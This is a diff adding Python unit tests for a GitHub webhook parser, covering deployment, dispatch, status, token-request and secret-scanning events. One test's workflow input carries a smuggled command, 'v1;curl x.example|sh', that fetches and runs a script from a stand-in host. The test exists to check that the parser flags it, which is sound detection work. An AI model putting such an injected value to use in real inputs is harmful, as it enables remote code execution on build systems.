@@ -217,3 +217,53 @@ def test_without_headers() -> None:
     event = parse("github.webhook", _run())
     assert event.action == "workflow_run.completed"
     assert event.id == parse("github.webhook", dict(reversed(_run().items()))).id
+
+
+def test_a_deployment() -> None:
+    """A deployment tells environment, commit, branch, state and who asked for it."""
+    body = payload(
+        action="created",
+        deployment={"sha": "a" * 40, "ref": "main", "environment": "production", "creator": {"login": "hubot"}},
+        deployment_status={"state": "failure", "updated_at": "2026-03-01T10:00:00Z"},
+        workflow_run={"id": 4711},
+    )
+    event = webhook("deployment_status", body)
+    assert (event.kind, event.links["sha"], event.links["run"]) == (Kind.RUN, "a" * 40, "4711")
+    assert (event.links["branch"], event.links["actor_login"], event.observed_at) == ("main", "hubot", AT)
+    assert (event.facts["x.environment"], event.facts["conclusion"]) == ("production", "failure")
+
+
+def test_a_workflow_started_by_hand() -> None:
+    """A start by hand names the workflow and its inputs, and tells what is odd in them."""
+    body = payload(workflow=".github/workflows/ship.yml", ref="refs/heads/main", inputs={"tag": "v1;curl x.example|sh"})
+    event = webhook("workflow_dispatch", body)
+    assert (event.links["workflow"], event.links["branch"]) == ("acme/pay:.github/workflows/ship.yml", "main")
+    assert (event.facts["x.input"], event.facts["text_oddity"]) == (["tag"], ["a program to run"])
+
+
+def test_a_status() -> None:
+    """A commit's status names commit, check, state and where it points."""
+    body = payload(sha="a" * 40, context="ci/pay", state="error", target_url="https://ci.example/1")
+    event = webhook("status", body)
+    assert (event.links["sha"], event.links["job"]) == ("a" * 40, "acme/pay:status/ci/pay")
+    assert (event.facts["conclusion"], event.facts["x.target_host"]) == ("error", "ci.example")
+
+
+def test_a_token_that_asks_for_access() -> None:
+    """A request for a token's access names the token, whose it is and what it may do."""
+    asked = {
+        "token_id": 77,
+        "owner": {"login": "lisa"},
+        "repository_selection": "all",
+        "permissions_added": {"repository": {"contents": "write"}, "organization": {"members": "read"}},
+    }
+    event = webhook("personal_access_token_request", payload(action="created", personal_access_token_request=asked))
+    assert (event.links["target"], event.links["token"]) == ("lisa", "id 77")
+    assert event.facts["permission"] == ["repository:contents=write", "organization:members=read"]
+
+
+def test_analysis_switched_off() -> None:
+    """A change of what GitHub analyses tells what it is now."""
+    body = payload(changes={"from": {"security_and_analysis": {"secret_scanning": {"status": "enabled"}}}})
+    body["repository"]["security_and_analysis"] = {"secret_scanning": {"status": "disabled"}}
+    assert webhook("security_and_analysis", body).facts["rule"] == ["secret_scanning=disabled"]
